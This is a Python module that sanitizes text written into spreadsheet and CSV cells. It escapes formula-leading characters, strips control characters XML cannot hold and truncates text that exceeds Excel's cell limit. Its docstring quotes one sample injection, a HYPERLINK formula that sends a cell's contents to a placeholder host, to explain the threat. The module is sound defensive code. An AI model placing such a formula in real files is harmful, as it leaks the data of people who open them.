"""The one rule for text that goes into a cell of any file the project writes (results and
comparison workbooks, sweep workbooks, the assessment workbook, CSV and IAMC exports).

A spreadsheet program runs a cell whose text begins with '=', '+', '-' or '@' as a formula (and
in CSV files, that is how a text cell is read back). A material, country or scenario name comes
from the user's workbook, so a name such as ``=HYPERLINK("http://x/?"&A1,"click")`` would become
a live formula in every file that shows it. ``cell_text`` keeps such text as text by putting an
apostrophe in front of it (the convention spreadsheet programs use for "this is text"), removes
the control characters an .xlsx file cannot hold, and cuts text longer than the 32,767
characters an Excel cell holds, saying so at the cut.
"""
from __future__ import annotations

import math
import re

import numpy as np
import pandas as pd

FORMULA_START = ("=", "+", "-", "@")
# texts a spreadsheet writer stores as error values rather than text
ERROR_VALUES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
MAX_CELL_TEXT = 32_767  # characters in one Excel cell
_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")  # control characters XML 1.0 does not allow


def cell_text(text: str) -> str:
    """``text`` as it is written into a cell: never a formula, within Excel's cell limit."""
    if _ILLEGAL.search(text):
        text = _ILLEGAL.sub("", text)
    if text.startswith(FORMULA_START) or text in ERROR_VALUES:
        text = "'" + text
    if len(text) > MAX_CELL_TEXT:
        note = f" [cut: {len(text):,} characters, an Excel cell holds {MAX_CELL_TEXT:,}]"
        text = text[:MAX_CELL_TEXT - len(note)] + note
    return text


def cell_value(v):
    """Any value as it is written into a cell: text through ``cell_text``, numpy scalars as
    Python numbers, NaN, infinities and None as a blank (None)."""
    if v is None:
        return None
    if isinstance(v, str):
        return cell_text(v)
    if isinstance(v, float) and not math.isfinite(v):
        return None
    if isinstance(v, np.generic):
        return cell_value(v.item())
    return v


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and column names) went through ``cell_text``, for
    writers that take a whole frame (CSV, ``DataFrame.to_excel``)."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = [cell_text(v) if isinstance(v, str) else v for v in out[col].tolist()]
    out.columns = [cell_text(c) if isinstance(c, str) else c for c in out.columns]
    if out.index.dtype == object:
        out.index = [cell_text(v) if isinstance(v, str) else v for v in out.index]
    return out
